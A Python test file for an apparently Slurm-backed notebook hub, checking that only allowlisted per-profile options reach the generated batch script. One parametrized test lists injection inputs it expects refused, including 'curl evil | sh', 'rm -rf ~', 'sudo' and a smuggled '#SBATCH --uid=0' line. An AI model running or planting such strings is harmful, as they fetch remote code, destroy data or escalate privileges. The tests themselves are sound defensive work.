"""User options: only the chosen profile's allowlisted options and values become a SessionRequest."""

import re
from pathlib import Path

import pytest
from aifl_hub.options import (
    OptionsError,
    SessionRequest,
    form_field,
    options_from_form,
    profile_list,
    validate_options,
)
from aifl_hub.script import JobSpec, build_script
from aifl_hub.site import load_site
from hypothesis import given, settings
from hypothesis import strategies as st

SITE = load_site(Path(__file__).resolve().parents[1] / "hub_config" / "site.yaml")
PROFILES = {p["slug"]: p for p in SITE["spawner"]["profile_list"]}
JOB = JobSpec(username="alice", home="/home/alice", log_path="/home/alice/.aifl/logs/session-%j.log",
              command=["/opt/aifl/envs/default/bin/aifl-singleuser"], export_names=["HOME", "PATH"],
              path_dirs=["/opt/aifl/envs/default/bin", "/usr/bin"], gpu_type="h200", save_lead=600)


def test_defaults_to_the_default_profile_and_its_default_choices():
    assert validate_options(SITE, {}) == SessionRequest(
        profile="cpu-small", partition="cpu", gpus=0, cpus=2, memory_gb=8, hours=2, account="lab",
        qos="interactive", environment="default", reservation="", choices={"hours": 2})
    request = validate_options(SITE, {"profile": "gpu-1"})
    assert (request.gpus, request.hours, request.environment, request.reservation) == (1, 4, "default", "")
    assert request.choices == {"hours": 4, "environment": "default"}


def test_form_lists_and_json_values_are_both_accepted():
    assert validate_options(SITE, {"profile": ["gpu-1"], "hours": ["3"]}).hours == 3
    assert validate_options(SITE, {"profile": "gpu-1", "hours": 7}).hours == 7
    assert validate_options(SITE, {"profile": "gpu-4", "environment": "default"}).gpus == 4


def test_unlisted_choice_is_checked_against_its_regex():
    chosen = validate_options(SITE, {"profile": "gpu-1", "reservation": "unlisted_choice",
                                     "reservation--unlisted-choice": "course-12"})
    assert chosen.reservation == "course-12"
    assert validate_options(SITE, {"profile": "gpu-1", **chosen.choices}) == chosen
    # The typed value alone also picks it (handy in links and the API).
    assert validate_options(SITE, {"profile": "gpu-1", "reservation--unlisted-choice": " course-12 "}).reservation \
        == "course-12"
    for bad in ("Course 12", "a;b", "../x", "x" * 40):
        with pytest.raises(OptionsError) as info:
            validate_options(SITE, {"profile": "gpu-1", "reservation--unlisted-choice": bad}, "nl")
        assert info.value.field == "reservation--unlisted-choice"
        assert info.value.message == "Een reserveringsnaam heeft alleen kleine letters, cijfers, '-' en '_'."
    with pytest.raises(OptionsError) as info:
        validate_options(SITE, {"profile": "gpu-1", "reservation": "unlisted_choice"})
    assert info.value.field == "reservation--unlisted-choice"


@pytest.mark.parametrize(("options", "field"), [
    ({"cmd": "bash -c id"}, "cmd"),
    ({"prologue": "curl evil | sh"}, "prologue"),
    ({"exec_prefix": "sudo"}, "exec_prefix"),
    ({"partition": "gpu"}, "partition"),
    ({"profile": "gpu-1", "gpus": "4"}, "gpus"),
    ({"profile": "cpu-small", "environment": "default"}, "environment"),  # an option of another profile
    ({"profile": "cpu-small", "reservation--unlisted-choice": "x"}, "reservation--unlisted-choice"),
    ({"profile": "gpu-1\n#SBATCH --uid=0"}, "profile"),
    ({"profile": "gpu-1; rm -rf ~"}, "profile"),
    ({"profile": "GPU-1"}, "profile"),
    ({"profile": ["gpu-1", "gpu-4"]}, "profile"),
    ({"profile": 1}, "profile"),
    ({"profile": "workshop-seat"}, "profile"),  # only for the workshop group
    ({"hours": "2; id"}, "hours"),
    ({"hours": "0"}, "hours"),
    ({"hours": 99}, "hours"),
    ({"hours": True}, "hours"),
    ({"hours": 1.5}, "hours"),
    ({"hours": -1}, "hours"),
    ({"profile": "gpu-1", "environment": "other"}, "environment"),
    ({"profile": "gpu-1", "environment": ["default", "default"]}, "environment"),
])
def test_hostile_or_wrong_options_are_refused(options, field):
    with pytest.raises(OptionsError) as info:
        validate_options(SITE, options, groups=[])
    assert info.value.field == field


def test_group_restricted_profile_is_invisible_and_refused_outside_the_group():
    assert "workshop-seat" not in {p["slug"] for p in profile_list(SITE, [])}
    assert "workshop-seat" in {p["slug"] for p in profile_list(SITE, ["workshop"])}
    with pytest.raises(OptionsError) as info:
        validate_options(SITE, {"profile": "workshop-seat"}, groups=["trainers"])
    assert "Workshop seat" not in info.value.message
    assert validate_options(SITE, {"profile": "workshop-seat"}, groups=["workshop"]).hours == 4


def test_messages_come_in_dutch_and_english():
    with pytest.raises(OptionsError) as en:
        validate_options(SITE, {"hours": "99"}, "en")
    with pytest.raises(OptionsError) as nl:
        validate_options(SITE, {"hours": "99"}, "nl")
    assert en.value.message == "Hours: choose from 1 to 2."
    assert nl.value.message == "Uren: kies van 1 tot 2."


def test_form_fields_of_the_chosen_profile_only():
    form = {"_xsrf": ["t"], "profile": ["gpu-1"], form_field("gpu-1", "hours"): ["3"],
            form_field("gpu-4", "hours"): ["8"], form_field("gpu-1", "reservation--unlisted-choice"): [""]}
    assert options_from_form(form) == {"profile": "gpu-1", "hours": ["3"]}
    assert validate_options(SITE, options_from_form(form)).hours == 3
    # A field that belongs to no card is kept, so that validation refuses it.
    assert options_from_form({"profile": ["gpu-1"], "cmd": ["id"]}) == {"profile": "gpu-1", "cmd": ["id"]}


def _expected_directives(request: SessionRequest) -> set[str]:
    return {"--job-name=aifl-lab", "--output=/home/alice/.aifl/logs/session-%j.log", "--chdir=/home/alice",
            "--export=HOME,PATH", f"--partition={request.partition}", "--account=lab", "--qos=interactive",
            f"--time={request.hours}:00:00", "--nodes=1", "--ntasks=1", "--no-requeue",
            f"--cpus-per-task={request.cpus}", f"--mem={request.memory_gb}G", "--signal=B:USR1@600"} | (
        {f"--gres=gpu:h200:{request.gpus}"} if request.gpus else set()) | (
        {f"--gres=shard:{request.shards}"} if request.shards else set()) | (
        {f"--reservation={request.reservation}"} if request.reservation else set())


KEYS = ["profile", "hours", "environment", "reservation", "reservation--unlisted-choice", "gpus", "partition", "cmd"]
VALUES = st.one_of(st.text(max_size=30), st.integers(-10**6, 10**6), st.floats(allow_nan=True), st.booleans(),
                   st.none(), st.sampled_from([*PROFILES, "unlisted_choice", "default", "course-1", "8", "3"]),
                   st.lists(st.text(max_size=10), max_size=3))


@settings(max_examples=600, deadline=None)
@given(st.dictionaries(st.one_of(st.sampled_from(KEYS), st.text(max_size=12)), VALUES, max_size=5),
       st.sets(st.sampled_from(["workshop", "trainers", "staff"])))
def test_no_generated_input_outside_the_allowlist_is_accepted_or_reaches_the_script(options, groups):
    try:
        request = validate_options(SITE, options, groups=groups)
    except OptionsError as exc:
        assert exc.message
        return
    profile = PROFILES[request.profile]
    assert "workshop" in groups or not profile.get("allowed_groups")
    assert set(options) - {"profile"} <= set(profile.get("profile_options", {})) | {"reservation--unlisted-choice"}
    override = profile["slurm_override"]
    assert (request.partition, request.gpus, request.cpus, request.memory_gb) == (
        override["partition"], override["gpus"], override["cpus"], override["memory_gb"])
    assert request.shards == override.get("shards", 0)
    hours = profile["profile_options"]["hours"]["range"]
    assert hours["min"] <= request.hours <= hours["max"] <= override["hours"]
    assert request.environment == "default"
    assert request.reservation == "" or re.fullmatch(r"[a-z0-9][a-z0-9_-]{0,31}", request.reservation)
    script = build_script(request, JOB)
    directives = {line.removeprefix("#SBATCH ") for line in script.splitlines() if line.startswith("#SBATCH")}
    assert directives == _expected_directives(request)


@settings(max_examples=300, deadline=None)
@given(st.dictionaries(st.one_of(st.sampled_from([form_field(s, k) for s in PROFILES for k in KEYS] + KEYS),
                                 st.text(max_size=20)),
                       st.lists(st.one_of(st.text(max_size=12), st.sampled_from([*PROFILES, "3", "unlisted_choice"])),
                                min_size=1, max_size=2), max_size=6))
def test_generated_forms_pass_the_same_allowlist(form):
    try:
        request = validate_options(SITE, options_from_form(form), groups=[])
    except OptionsError:
        return
    assert request.profile in {"cpu-small", "gpu-1", "gpu-4"}
    assert _expected_directives(request) == {
        line.removeprefix("#SBATCH ") for line in build_script(request, JOB).splitlines() if line.startswith("#SBATCH")}
